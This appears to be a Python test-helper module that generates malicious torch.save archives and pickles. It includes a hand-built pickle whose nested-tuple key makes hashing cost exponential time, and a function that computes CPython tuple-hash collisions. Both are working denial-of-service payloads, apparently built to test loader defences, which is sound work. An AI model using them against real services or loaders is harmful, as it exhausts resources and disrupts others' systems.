"""torch.save archives and pickles that attack their reader."""

from __future__ import annotations

import io
import pickle
import zipfile
from typing import Any


def compressed(content: bytes) -> bytes:
    """Return a torch.save archive with compressed entries; torch.load still reads it."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            new.writestr(entry.filename, old.read(entry))
    return packed.getvalue()


def doubled(value: Any, rounds: int) -> Any:
    """Return nested tuples that hold the same tuple twice: hashing takes 2 ** `rounds` steps."""
    for _ in range(rounds):
        value = (value, value)
    return value


def pickle_of_key(rounds: int) -> bytes:
    """Return a pickled dictionary whose key is `doubled`; `pickle.dumps` would hash the key."""
    header = b"\x80\x02"
    key = pickle.dumps(doubled(1, rounds), 2).removeprefix(header).removesuffix(b".")
    return header + b"}" + key + b"K\x01s."  # a dictionary, its key, the value 1, set


def equal_hashes(count: int) -> list[tuple[int, int]]:
    """Return pairs whose hashes are equal, by CPython's formula for the hash of a tuple."""
    bits = (1 << 64) - 1
    first_prime = 11400714785074694791
    second_prime = 14029467366897019727
    start = 2870177450012600261
    inverse = pow(second_prime, -1, 1 << 64)
    pairs: list[tuple[int, int]] = []
    number = 0
    while len(pairs) < count:
        number += 1
        state = (start + number * second_prime) & bits
        state = ((state << 31) | (state >> 33)) & bits
        state = state * first_prime & bits
        second = (12345 - state) * inverse & bits
        if second >> 63:
            second -= 1 << 64
        if abs(second) < (1 << 61) - 1:  # CPython reduces larger integers modulo 2 ** 61 - 1
            pairs.append((number, second))
    return pairs
